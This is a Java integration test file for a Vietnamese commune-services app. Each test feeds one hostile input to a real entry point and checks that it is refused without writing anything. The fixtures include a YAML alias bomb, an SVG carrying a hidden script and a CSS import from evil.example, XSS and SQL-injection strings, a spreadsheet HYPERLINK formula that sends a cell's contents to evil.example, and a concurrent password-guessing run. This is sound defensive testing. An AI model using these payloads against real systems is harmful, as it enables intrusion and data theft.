package vn.tramso;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.authentication.BadCredentialsException;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.config.annotation.authentication.configuration.AuthenticationConfiguration;
import org.springframework.security.core.AuthenticationException;
import org.springframework.security.web.authentication.WebAuthenticationDetails;
import vn.tramso.alert.AlertRefusedException;
import vn.tramso.alert.Alerts;
import vn.tramso.base.CameraFrames;
import vn.tramso.base.Messages;
import vn.tramso.base.security.SignInThrottledException;
import vn.tramso.base.table.ImportProblem;
import vn.tramso.base.table.ImportRefusedException;
import vn.tramso.base.table.ImportReport;
import vn.tramso.base.table.Progress;
import vn.tramso.base.table.Table;
import vn.tramso.base.table.TableException;
import vn.tramso.base.table.TableReader;
import vn.tramso.base.table.TestXlsx;
import vn.tramso.booking.CccdParser;
import vn.tramso.booking.CodeGuesses;
import vn.tramso.guide.ContentLoader;
import vn.tramso.guide.InvalidContentException;
import vn.tramso.household.HouseholdImport;
import vn.tramso.place.PlaceEditor;
import vn.tramso.place.PlaceImport;
import vn.tramso.place.PlaceLevel;
import vn.tramso.place.PlaceRefusedException;

/**
 * One hostile input of each kind this project accepts from outside, through the real entry point:
 * each gets a message its reader understands, and nothing is written. The detailed cases live in
 * each feature's tests (named in docs/security.md); this tour keeps them side by side.
 */
@IntegrationTest
class BadInputTourTest {

    @Autowired
    Alerts alerts;
    @Autowired
    CodeGuesses codes;
    @Autowired
    HouseholdImport households;
    @Autowired
    PlaceImport places;
    @Autowired
    TestStaff staff;
    @Autowired
    TestAccounts testAccounts;
    @Autowired
    JdbcClient jdbc;
    @Autowired
    AuthenticationConfiguration signIn;
    @Autowired
    PlaceEditor placeAdmin;

    @TempDir
    Path temp;

    @Test
    void a_guide_file_with_an_alias_bomb_is_refused_naming_the_file_in_words_an_officer_reads() throws Exception {
        Path root = temp.resolve("kiosk-config");
        for (String dir : List.of("guides", "kiosks", "illustrations")) {
            Files.createDirectories(root.resolve(dir));
        }
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
                    .append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append("]\n");
        }
        Files.writeString(root.resolve("guides/bom.yaml"), bomb, StandardCharsets.UTF_8);

        InvalidContentException refused = catchThrowableOfType(InvalidContentException.class, () -> ContentLoader.load(root));
        assertThat(refused.problems()).anySatisfy(p -> {
            assertThat(p.file()).isEqualTo("guides/bom.yaml");
            assertThat(p.message()).contains("quá nhiều tham chiếu lặp lại");
        });
    }

    @Test
    void an_alert_picture_with_a_script_hidden_in_a_comment_publishes_nothing() {
        TestDatabase.CLOCK.set(LocalDateTime.of(2026, 12, 4, 9, 0));
        int before = count("scam_alert");
        AlertRefusedException refused = catchThrowableOfType(AlertRefusedException.class, () -> staff.run("lanhdao.hongquang",
                () -> alerts.publish("Cảnh báo", "Không chuyển tiền cho người lạ.", null, LocalDateTime.of(2026, 12, 11, 9, 0),
                        List.of(communeOf("lanhdao.hongquang")),
                        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"><!-- <svg><img src=x onerror=alert(1)> -->"
                                + "<style>@import url(https://evil.example/x.css);</style></svg>")));
        assertThat(Messages.vi(refused.reason().messageKey(), refused.getMessage())).startsWith("Hình không dùng được");
        assertThat(count("scam_alert")).isEqualTo(before);
    }

    @Test
    void a_forged_id_card_payload_is_refused_in_words_a_resident_understands() {
        CccdParser.Result result = CccdParser.parse("001088012345|<script>alert(1)</script>|31021950|Nam|x|y|z".repeat(40),
                LocalDate.of(2026, 12, 4));
        assertThat(result).isInstanceOfSatisfying(CccdParser.Refused.class,
                r -> assertThat(Messages.vi(r.reason().messageKey())).matches("(Đây không phải mã QR|Không đọc được thẻ).*"));
    }

    @Test
    void a_camera_frame_that_is_a_png_claiming_a_huge_size_is_dropped_undecoded() {
        byte[] png = Base64.getDecoder().decode("iVBORw0KGgoAAAANSUhEUgAATiAAAE4gCAIAAAD/0IBaAAAADElEQVR4nGNgGAWjAAAAkAABxVmDvQAAAABJRU5ErkJggg==");
        CameraFrames.Result asJpeg = CameraFrames.read("data:image/jpeg;base64," + Base64.getEncoder().encodeToString(png));
        assertThat(asJpeg.outcome()).isNotEqualTo(CameraFrames.Outcome.READ);
        assertThat(CameraFrames.read("data:image/png;base64," + Base64.getEncoder().encodeToString(png)).outcome())
                .isEqualTo(CameraFrames.Outcome.NOT_JPEG);
    }

    @Test
    void a_booking_code_that_is_sql_or_ten_thousand_characters_finds_nothing_and_is_not_counted() {
        TestDatabase.CLOCK.set(LocalDateTime.of(2026, 12, 4, 9, 0));
        long village = jdbc.sql("SELECT id FROM village WHERE code = 'HY-HQ-TRA-PHUONG'").query(Long.class).single();
        int bookings = count("booking");
        assertThat(codes.find("10.9.9.9", village, "1' OR '1'='1'; DROP TABLE booking; --")).isEmpty();
        assertThat(codes.find("10.9.9.9", village, "9".repeat(10_000))).isEmpty();
        assertThat(count("booking")).isEqualTo(bookings);
        assertThat(jdbc.sql("SELECT COUNT(*) FROM booking_code_miss WHERE address = '10.9.9.9'").query(Integer.class).single())
                .as("neither is a code a resident could have mistyped").isZero();
    }

    @Test
    void a_household_file_with_a_formula_and_an_unknown_village_imports_nothing() throws Exception {
        int members = count("household_member");
        Table file = TableReader.read("ho.csv", ("Mã thôn,Mã hộ,Chủ hộ,Xóm/Tổ,Địa chỉ,Họ và tên,Năm sinh,Giới tính,Điện thoại\n"
                + "HY-HQ-TRA-PHUONG,H900,,,,=HYPERLINK(\"https://evil.example\"),1960,Nam,\n"
                + "KHONG-CO,H901,,,,Nguyễn Văn Tour,1960,Nam,\n").getBytes(StandardCharsets.UTF_8), HouseholdImport.COLUMNS);

        ImportRefusedException refused = catchThrowableOfType(ImportRefusedException.class,
                () -> staff.as("lanhdao.hongquang", () -> households.commit(file, Progress.NONE)));
        ImportReport report = refused.report();
        assertThat(report.problems()).extracting(p -> p.row()).contains(3);
        assertThat(report.problems()).allSatisfy(p -> assertThat(p.message()).isNotBlank());
        assertThat(count("household_member")).as("all or nothing").isEqualTo(members);
    }

    @Test
    void a_sign_in_with_a_ten_thousand_character_name_and_control_characters_is_a_plain_failure() throws Exception {
        TestDatabase.CLOCK.set(LocalDateTime.of(2026, 12, 4, 9, 0));
        UsernamePasswordAuthenticationToken attempt = UsernamePasswordAuthenticationToken.unauthenticated(
                "admin' --\u0000" + "x".repeat(10_000), "\u0000");
        attempt.setDetails(new WebAuthenticationDetails("10.8.8.8", null));
        assertThat(catchThrowableOfType(AuthenticationException.class, () -> signIn.getAuthenticationManager().authenticate(attempt)))
                .isInstanceOf(BadCredentialsException.class);
        assertThat(jdbc.sql("SELECT COUNT(*) FROM sign_in_event WHERE address = '10.8.8.8' AND username IS NULL AND outcome = 'FAILED'")
                .query(Integer.class).single()).as("recorded without the name typed, which is no account's").isEqualTo(1);
    }

    @Test
    void twenty_password_guesses_sent_at_once_from_one_address_get_at_most_ten_checked() throws Exception {
        testAccounts.admin("thu.tour.doan", "Thử đoán"); // a bcrypt hash, as every account's: each check costs what it does in use
        TestDatabase.CLOCK.set(LocalDateTime.of(2026, 12, 4, 10, 0));
        ExecutorService pool = Executors.newFixedThreadPool(20);
        CountDownLatch start = new CountDownLatch(1);
        List<Future<Class<?>>> guesses = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            String guess = "doan-" + i;
            guesses.add(pool.submit(() -> {
                start.await();
                UsernamePasswordAuthenticationToken attempt = UsernamePasswordAuthenticationToken.unauthenticated("thu.tour.doan", guess);
                attempt.setDetails(new WebAuthenticationDetails("10.8.8.9", null));
                return catchThrowableOfType(AuthenticationException.class,
                        () -> signIn.getAuthenticationManager().authenticate(attempt)).getClass();
            }));
        }
        start.countDown();
        List<Class<?>> refusals = new ArrayList<>();
        for (Future<Class<?>> g : guesses) {
            refusals.add(g.get(60, TimeUnit.SECONDS));
        }
        pool.shutdown();
        assertThat(refusals).filteredOn(BadCredentialsException.class::equals).as("passwords checked").hasSize(10);
        assertThat(refusals).filteredOn(SignInThrottledException.class::equals).hasSize(10);
    }

    @Test
    void a_province_admins_place_file_that_renames_the_province_and_adds_a_kiosk_writes_nothing() throws Exception {
        int kiosks = count("kiosk");
        Table file = TableReader.read("dia-ban.csv", ("Mã tỉnh,Tên tỉnh,Mã xã,Tên xã,Loại xã,Mã thôn,Tên thôn,Loại thôn,"
                + "Nhà văn hóa,Địa chỉ nhà văn hóa,Mã kiosk\n"
                + "HY,Tỉnh Của Tôi,HY-HQ,Xã Hồng Quang,Xã,HY-HQ-TRA-PHUONG,Thôn Trà Phương,Thôn,,,kiosk-lau\n")
                .getBytes(StandardCharsets.UTF_8), PlaceImport.COLUMNS);

        ImportRefusedException refused = catchThrowableOfType(ImportRefusedException.class,
                () -> staff.as("tinh.hungyen", () -> places.commit(file)));

        assertThat(refused.report().problems()).extracting(ImportProblem::toString).containsExactly(
                "Dòng 2, cột 'Tên tỉnh': chỉ quản trị viên mới được đổi tên tỉnh",
                "Dòng 2, cột 'Mã kiosk': chỉ quản trị viên mới được gắn mã kiosk (mã 'kiosk-lau' chưa có)");
        assertThat(jdbc.sql("SELECT name FROM province WHERE code = 'HY'").query(String.class).single()).isEqualTo("Tỉnh Hưng Yên");
        assertThat(count("kiosk")).as("all or nothing").isEqualTo(kiosks);
    }

    private long communeOf(String leader) {
        return jdbc.sql("SELECT commune_id FROM user_account WHERE username = :u").param("u", leader).query(Long.class).single();
    }

    private int count(String table) {
        return jdbc.sql("SELECT COUNT(*) FROM " + table).query(Integer.class).single();
    }

    @Test
    void a_village_renamed_to_a_spreadsheet_formula_is_refused_in_words_a_leader_reads_and_keeps_its_name() {
        long village = jdbc.sql("SELECT id FROM village WHERE code = 'HY-HQ-TRA-PHUONG'").query(Long.class).single();
        PlaceRefusedException refused = catchThrowableOfType(PlaceRefusedException.class, () -> staff.run("lanhdao.hongquang",
                () -> placeAdmin.rename(PlaceLevel.VILLAGE, village, "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")")));

        assertThat(Messages.vi(refused.reason().messageKey()))
                .isEqualTo("Tên không được bắt đầu bằng =, +, -, @ hay dấu tab: bảng tính sẽ hiểu là công thức.");
        assertThat(jdbc.sql("SELECT name FROM village WHERE id = :v").param("v", village).query(String.class).single())
                .isEqualTo("Thôn Trà Phương");
    }

    @Test
    void a_small_excel_file_naming_column_xfd_on_every_row_is_refused_before_it_fills_memory() throws Exception {
        byte[] xlsx = TestXlsx.sheet(HouseholdImport.COLUMNS.stream().map(c -> c.header()).toList(), TableReader.MAX_ROWS, List.of(), 16_383);
        int members = count("household_member");

        TableException refused = catchThrowableOfType(TableException.class,
                () -> TableReader.read("ho.xlsx", xlsx, HouseholdImport.COLUMNS));

        assertThat(xlsx.length).as("a small file").isLessThan(TableReader.MAX_BYTES);
        assertThat(refused.getMessage()).startsWith("Dòng 2, cột 'XFD': tệp chỉ được có tối đa 50 cột");
        assertThat(count("household_member")).isEqualTo(members);
    }
}
